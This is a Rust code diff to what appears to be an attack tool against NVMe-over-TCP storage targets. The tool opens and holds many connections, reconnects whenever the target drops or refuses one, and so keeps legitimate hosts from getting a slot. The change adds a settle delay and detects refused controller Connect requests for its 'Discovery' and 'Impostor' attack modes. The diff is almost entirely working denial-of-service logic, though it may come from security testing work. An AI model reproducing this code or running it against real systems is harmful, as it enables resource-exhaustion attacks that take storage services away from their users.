@@ -26,6 +26,9 @@ const STRANGER: &str = raw_tcp::HOST_NQN;
 const ANSWER_PATIENCE: Duration = Duration::from_secs(1);
 const START_PATIENCE: Duration = Duration::from_secs(8);
 
+/// How long it looks on before it makes anew what it has lost, and lets others come.
+const SETTLE: Duration = Duration::from_millis(150);
+
 /// What an attacker leaves between two attempts.
 const PAUSE: Duration = Duration::from_millis(1);
 
@@ -108,6 +111,8 @@ impl Going {
         let held: Vec<Vec<Held>> = numbers.map(|number| attempt(&attack, number, address)).collect();
         let stop = Arc::new(AtomicBool::new(false));
         let stopped = Arc::clone(&stop);
+        // The target is busy with what has come so far.
+        std::thread::sleep(SETTLE);
         let thread = std::thread::spawn(move || go_on(&attack, address, held, &stopped));
         Self { stop, thread: Some(thread) }
     }
@@ -115,13 +120,14 @@ impl Going {
 
 /// Makes connections anew that are lost. Those that are there stay: each that left would be a place for somebody else.
 fn go_on(attack: &Attack, address: SocketAddr, mut held: Vec<Vec<Held>>, stop: &AtomicBool) {
+    let wants_controller = matches!(attack.act, Act::Discovery | Act::Impostor);
     let mut dripped = Instant::now();
     loop {
         for (number, one) in held.iter_mut().enumerate() {
             if stop.load(Ordering::Relaxed) {
                 return;
             }
-            if one.first_mut().is_none_or(|first| first.is_lost()) {
+            if one.first().is_none_or(|first| first.is_lost(wants_controller)) {
                 *one = attempt(attack, number, address);
                 // The processor is not what it is after.
                 std::thread::sleep(PAUSE);
@@ -145,9 +151,14 @@ impl Drop for Going {
 }
 
 impl Held {
-    /// Whether the target has closed it.
-    fn is_lost(&mut self) -> bool {
-        match self.stream.peek(&mut [0]) {
+    /// Whether the target has closed it, or has refused what a Connect asked for.
+    fn is_lost(&self, wants_controller: bool) -> bool {
+        let mut answers = [0; IcResp::SIZE + CapsuleResp::SIZE];
+        match self.stream.peek(&mut answers) {
+            Ok(bytes) if bytes == answers.len() && wants_controller => {
+                let answer = CapsuleResp::read_from_bytes(&answers[IcResp::SIZE..]).expect("as long as one");
+                !answer.cqe.status().is_success()
+            }
             Ok(bytes) => bytes == 0,
             Err(error) => error.kind() != io::ErrorKind::WouldBlock,
         }
